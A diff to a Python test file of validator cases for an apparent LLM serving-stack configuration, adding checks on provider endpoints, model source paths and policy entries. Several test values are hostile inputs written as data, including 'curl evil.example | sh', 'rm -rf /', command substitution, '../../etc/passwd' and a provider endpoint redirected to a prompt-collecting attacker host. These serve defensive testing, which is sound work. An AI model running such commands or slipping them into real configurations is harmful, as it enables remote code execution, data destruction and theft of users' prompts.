@@ -62,7 +62,8 @@ def provider(**fields: Any) -> dict[str, Any]:
     """A stack routing to one hosted provider with ``fields`` changed (None: left out)."""
     route = {"name": "gpt", "provider": "openai", "model": "gpt-4o-mini",
              "credentialsSecretRef": {"name": "keys", "key": "openai"}, **fields}  # fmt: skip
-    return stack(gateway={"providers": [{k: v for k, v in route.items() if v is not None}]})
+    routes = [{k: v for k, v in route.items() if v is not None}]
+    return stack(gateway={"providers": routes, "authSecretRef": {"name": "gw", "key": "key"}})
 
 
 def policy(**spec: Any) -> dict[str, Any]:
@@ -179,6 +180,15 @@ CASES: list[Case] = [
          "spec.gateway.providers[0].credentialsSecretRef"),
     both("provider-api-base-hostile", provider(apiBase="http://x.example/v1 --debug"),
          "spec.gateway.providers[0].apiBase"),
+    both("provider-fixed-endpoint-redirected",
+         provider(apiBase="https://prompt-collector.attacker.example/v1"),
+         rules.PROVIDER_FIXED_ENDPOINT),
+    both("providers-on-an-open-gateway",
+         stack(gateway={"providers": provider()["spec"]["gateway"]["providers"]}),
+         rules.PROVIDERS_NEED_AUTH),
+    Case("provider-host-not-listed",
+         provider(provider="openai-compatible", apiBase="https://llm.elsewhere.example/v1"),
+         api="route gpt sends prompts to provider openai-compatible", cli=None),
     both("fallback-to-unknown-route",
          stack(gateway={"fallbacks": [{"model": "m", "to": ["nowhere"]}]}), rules.UNKNOWN_ROUTE),
     both("fallback-to-itself", stack(gateway={"fallbacks": [{"model": "m", "to": ["m"]}]}),
@@ -226,6 +236,16 @@ CASES: list[Case] = [
     both("source-shell", model(source="org/m; curl evil.example | sh"), "spec.models[0].source"),
     both("source-path-traversal", model(source="../../etc/passwd"), "spec.models[0].source"),
     both("source-s3-bad-bucket", model(source="s3://A_B/prefix"), "spec.models[0].source"),
+    both("source-nul", model(source="pvc://weights/a\x00b"), "spec.models[0].source"),
+    both("source-control-character", model(source="s3://bucket/a\nb"), "spec.models[0].source"),
+    both("source-dot-dot", model(source="pvc://weights/approved/../other"),
+         "spec.models[0].source"),
+    both("adapter-path-with-equals",
+         model(adapters=[{"name": "a", "source": "pvc://loras/x=y", "license": "MIT"}]),
+         "spec.models[0].adapters[0].source"),
+    Case("license-with-a-license-as-exception",
+         model(source="pvc://weights/m", license="Apache-2.0 WITH CC-BY-NC-4.0"),
+         api="cannot be used as an exception", cli=None),
     both("revision-shell", model(revision="main && rm -rf /"), "spec.models[0].revision"),
     both("image-shell", model(image="vllm/vllm-openai; rm -rf /"), "spec.models[0].image"),
     both("image-command-substitution", stack(gateway={"image": "$(curl evil.example)"}),
@@ -282,6 +302,15 @@ CASES: list[Case] = [
          cli="spec.allowed", command=POLICY_CHECK),
     Case("policy-exception-no-reason", policy(exceptions=[{"model": "org/m"}]),
          api="spec.exceptions[0].reason", cli="spec.exceptions[0].reason", command=POLICY_CHECK),
+    Case("policy-pvc-exception-without-namespace",
+         policy(exceptions=[{"model": "pvc://weights/approved", "reason": "LEGAL-1"}]),
+         api=rules.PVC_EXCEPTION_NAMESPACE, cli=rules.PVC_EXCEPTION_NAMESPACE,
+         command=POLICY_CHECK),
+    Case("policy-provider-host-with-scheme",
+         policy(providers={"hosts": ["https://llm.example"]}),
+         api="spec.providers.hosts[0]", cli="spec.providers.hosts[0]", command=POLICY_CHECK),
+    Case("policy-image-pattern-bogus", policy(images={"allow": ["ghcr.io/acme/*/x"]}),
+         api="spec.images.allow[0]", cli="spec.images.allow[0]", command=POLICY_CHECK),
     Case("policy-too-many-entries", policy(deny=["MIT"] * 257), api="spec.deny",
          cli="spec.deny", command=POLICY_CHECK),
     # --- YAML the CLI must survive (kubectl never sends these as such)
